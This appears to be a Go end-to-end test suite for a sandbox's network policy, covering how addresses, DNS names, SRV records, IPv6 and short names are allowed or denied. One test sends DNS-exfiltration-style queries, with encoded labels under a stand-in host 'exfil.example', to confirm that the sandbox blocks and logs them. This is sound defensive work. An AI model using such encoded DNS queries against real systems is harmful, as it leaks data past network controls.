// SPDX-License-Identifier: Apache-2.0

package e2e_test

import (
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/opencontainers/runtime-spec/specs-go"
	"openshell.ai/openshell/test/cases"
	"openshell.ai/openshell/test/fakenet"
	"openshell.ai/openshell/test/node"
)

func TestAddressesAreDecidedLikeNames(t *testing.T) {
	t.Parallel()
	p := newPair(t, `version: 1
network_policies:
  stream:
    endpoints: [{host: 45.64.45.13, port: 80}, {host: "2a0e:b107:45::d", port: 80}]
    binaries: [{path: /usr/bin/client}]
`)
	for _, a := range fakenet.Addrs(fakenet.StreamHost) {
		node.Worked(t, p.enforcing.Client("get", "http://"+net.JoinHostPort(a.String(), "80")+"/listed"))
	}
	for _, a := range fakenet.Addrs(fakenet.WebHost) {
		target := net.JoinHostPort(a.String(), "80")
		r := p.enforcing.Client("get", "http://"+target+"/x")
		if body := refused(t, r, http.StatusForbidden); body.Error != "policy_denied" || body.Detail != "GET "+target+"/x not permitted by policy" {
			t.Errorf("%s: %s", target, r.Body)
		}
		p.Unseen(fakenet.WebHost)
		node.Worked(t, p.permissive.Client("get", "http://"+target+"/x"))
		if seen := p.Net.Saw(fakenet.WebHost); !slices.Equal(seen, []string{"GET /x"}) {
			t.Errorf("%s: the origin saw %q", target, seen)
		}
		if proposal := p.ProposalFor("lenient", a.String()); !slices.Equal(node.Allows(proposal), []string{"GET /x"}) {
			t.Errorf("%s: proposal %+v", target, proposal.Rule)
		}
		p.Net.Reset()
	}
	for _, a := range fakenet.Addrs(fakenet.EchoHost) {
		target := net.JoinHostPort(a.String(), "7")
		if r := p.enforcing.Client("tcp", "-t", "5s", target, "hello"); r.OK {
			t.Errorf("enforcing, %s: %+v", target, r)
		}
		// At once, so that QUIC falls back to TCP.
		if r := p.enforcing.Client("udp", "-t", "5s", net.JoinHostPort(a.String(), "443"), "hello"); r.OK || !strings.Contains(r.Error, "connection refused") {
			t.Errorf("enforcing, UDP to %s: %+v", a, r)
		}
		p.Unseen(fakenet.EchoHost)
		if r := p.permissive.Client("tcp", target, "hello"); r.Body != "hello" {
			t.Errorf("permissive, %s: %+v", target, r)
		}
		p.ProposalFor("lenient", a.String())
		p.Net.Reset()
	}
	for _, q := range p.Net.Queries() {
		t.Errorf("a connection to an address asked the name server for %s", q.Name)
	}
}

const webOnly = `version: 1
network_policies:
  web:
    endpoints: [{host: web.example, port: 80}, {host: missing.web.example, port: 80}, {host: ipv6only.example, port: 80},
      {host: text.example, port: 80}]
    binaries: [{path: /usr/bin/client}]
`

// synthetic are the ranges that names are given addresses from.
var synthetic = map[string]netip.Prefix{
	"A":    netip.MustParsePrefix("198.18.0.0/15"),
	"AAAA": netip.MustParsePrefix("fc00::/7"),
}

func answered(t *testing.T, c *node.Container, name, qtype string) {
	t.Helper()
	r := c.Client("dns", name, qtype)
	if r.Rcode != "NOERROR" || len(r.Answers) != 1 {
		t.Fatalf("%s %s: %+v", qtype, name, r)
	}
	if a, err := netip.ParseAddr(r.Answers[0]); err != nil || !synthetic[qtype].Contains(a) {
		t.Errorf("%s %s: answer %s is not synthetic", qtype, name, r.Answers[0])
	}
}

func TestNamesThatNoRuleAllowsDoNotLeave(t *testing.T) {
	t.Parallel()
	p := newPair(t, webOnly)
	const secret = "mfzwizltoq.exfil.example"
	for _, qtype := range []string{"A", "AAAA"} {
		answered(t, p.enforcing, fakenet.GitHubHost, qtype)
		answered(t, p.enforcing, secret, qtype)
		answered(t, p.enforcing, fakenet.WebHost, qtype)
		answered(t, p.permissive, fakenet.GitHubHost, qtype)
	}
	for _, query := range [][]string{
		{secret, "TXT"}, {secret, "MX"}, {fakenet.TextHost + ".x", "TXT"}, {fakenet.GitHubHost + ".cluster.example", "A"},
	} {
		if r := p.enforcing.Client("dns", query[0], query[1]); r.Rcode != "NXDOMAIN" {
			t.Errorf("enforcing, %s: %+v", query, r)
		}
	}
	if r := p.enforcing.Client("dns", "-tcp", secret, "TXT"); r.Rcode != "NXDOMAIN" {
		t.Errorf("enforcing, over TCP: %+v", r)
	}
	// Any server that the workload names is the sandbox's.
	if r := p.enforcing.Client("dns", "-server", p.Net.DNS().String(), secret, "TXT"); r.Rcode != "NXDOMAIN" {
		t.Errorf("enforcing, another server: %+v", r)
	}
	if r := p.enforcing.Client("get", "https://"+secret+"/"); r.Status != http.StatusForbidden {
		t.Errorf("enforcing, connection to a name that does not exist: %+v", r)
	}
	if p.Asked("exfil.example") || p.Asked("cluster.example") {
		t.Errorf("names left the sandbox: %+v", p.Net.Queries())
	}
	if !p.Asked(fakenet.WebHost) || !p.Asked(fakenet.GitHubHost) {
		t.Errorf("names that may leave did not: %+v", p.Net.Queries())
	}
	node.Eventually(t, node.Patience, "a name that was kept from leaving on record", func() bool {
		return strings.Contains(p.AuditLog(p.enforcing), secret)
	})
}

// A service is found where its host may be. The servers that the answer names
// need rules of their own, which are learned as any.
func TestServicesOfAllowedHosts(t *testing.T) {
	t.Parallel()
	p := newPair(t, webOnly)
	for _, c := range []*node.Container{p.enforcing, p.permissive} {
		r := c.Client("dns", fakenet.ServiceName, "SRV")
		if r.Rcode != "NOERROR" || !slices.Equal(r.Answers, []string{"0 0 80 " + fakenet.GitHubHost + "."}) {
			t.Errorf("%+v", r)
		}
	}
	p.Net.Reset()
	for _, name := range []string{"_http._tcp.exfil.example", "_mfzwizltoq.exfil.example", "mfzwizltoq._tcp." + fakenet.TextHost,
		"_mf._zw._iz." + fakenet.TextHost, "_mfzwizltoqmfzwizltoq." + fakenet.TextHost} {
		if r := p.enforcing.Client("dns", name, "SRV"); r.Rcode != "NXDOMAIN" {
			t.Errorf("%s: %+v", name, r)
		}
	}
	if q := p.Net.Queries(); len(q) > 0 {
		t.Errorf("names left the sandbox: %+v", q)
	}
	if r := p.enforcing.Client("get", "http://"+fakenet.GitHubHost+"/repos"); r.Status != http.StatusForbidden {
		t.Errorf("enforcing: %+v", r)
	}
	node.Worked(t, p.permissive.Client("get", "http://"+fakenet.GitHubHost+"/repos"))
	if proposal := p.ProposalFor("lenient", fakenet.GitHubHost); !slices.Equal(node.Allows(proposal), []string{"GET /repos"}) {
		t.Errorf("proposal %+v", proposal.Rule)
	}
}

func TestNamesThatDoNotExist(t *testing.T) {
	t.Parallel()
	p := newPair(t, webOnly)
	for _, qtype := range []string{"A", "AAAA", "TXT"} {
		if r := p.permissive.Client("dns", "nobody.example", qtype); r.Rcode != "NXDOMAIN" {
			t.Errorf("permissive, %s: %+v", qtype, r)
		}
		if r := p.enforcing.Client("dns", "missing.web.example", qtype); r.Rcode != "NXDOMAIN" {
			t.Errorf("enforcing, allowed, %s: %+v", qtype, r)
		}
		if r := p.permissive.Client("dns", fakenet.ServfailHost, qtype); r.Rcode != "SERVFAIL" {
			t.Errorf("permissive, server failure, %s: %+v", qtype, r)
		}
	}
	if r := p.enforcing.Client("dns", fakenet.TextHost, "A"); r.Rcode != "NOERROR" || len(r.Answers) != 0 {
		t.Errorf("a name without addresses: %+v", r)
	}
	if r := p.permissive.Client("get", "http://nobody.example/"); r.OK || !strings.Contains(r.Error, "no such host") {
		t.Errorf("connection to a name that does not exist: %+v", r)
	}
	if list := p.Settled("lenient"); len(list) > 0 {
		t.Errorf("proposals for names that do not exist: %q", node.Subjects(list))
	}
}

func TestIPv6(t *testing.T) {
	t.Parallel()
	p := newPair(t, webOnly)
	node.Worked(t, p.enforcing.Client("get", "http://"+fakenet.IPv6OnlyHost+"/six"))
	r := p.enforcing.Client("dns", fakenet.WebHost, "AAAA")
	node.Worked(t, p.enforcing.Client("get", "-H", "Host: web.example", "http://["+r.Answers[0]+"]/six"))
	r = p.enforcing.Client("dns", fakenet.GitHubHost, "AAAA")
	if r = p.enforcing.Client("get", "-H", "Host: api.github.example", "http://["+r.Answers[0]+"]/six"); r.Status != http.StatusForbidden {
		t.Errorf("denied over IPv6: %+v", r)
	}
	if r := p.enforcing.Client("dns", "-server", "[2001:db8::53]:53", fakenet.WebHost, "A"); r.Rcode != "NOERROR" {
		t.Errorf("name server over IPv6: %+v", r)
	}
	p.Unseen(fakenet.GitHubHost)
}

// A short name works in both modes, and the rule is for the name that the search list made of it.
func TestShortName(t *testing.T) {
	cases.Show(t, "clients/short name")
	t.Parallel()
	w := node.New(t)
	file := filepath.Join(w.Dir, "resolv.conf")
	node.Must(t, os.WriteFile(file, []byte("nameserver 192.0.2.53\nsearch other.example example\n"), 0o644))
	start := func(edits ...node.Edit) *node.Container {
		return w.Container(append(edits, node.Policy("short"), func(s *specs.Spec) {
			s.Mounts = append(s.Mounts, specs.Mount{Destination: "/etc/resolv.conf", Type: "bind", Source: file, Options: []string{"bind", "ro"}})
		})...).Start()
	}
	short := func(c *node.Container) {
		t.Helper()
		node.Worked(t, c.Client("get", "http://web/short"))
		node.Worked(t, c.Client("get", "https://api.weather/short"))
	}
	c := start(node.Permissive)
	short(c)
	if p := w.ProposalFor("short", fakenet.WebHost); !slices.Equal(node.Allows(p), []string{"GET /short"}) {
		t.Errorf("proposed %+v", p.Rule)
	}
	w.Operate("approve", "short", "--all")
	c.Delete()
	c = start()
	short(c)
	if denied := w.Denied(c); len(denied) > 0 {
		t.Errorf("denied: %+v", denied)
	}
	for _, host := range []string{"mail", "we", "web.other.example"} {
		if r := c.Client("get", "-H", "Host: "+host, "http://web/short"); r.Status != http.StatusMisdirectedRequest {
			t.Errorf("Host: %s: %+v", host, r)
		}
	}
}
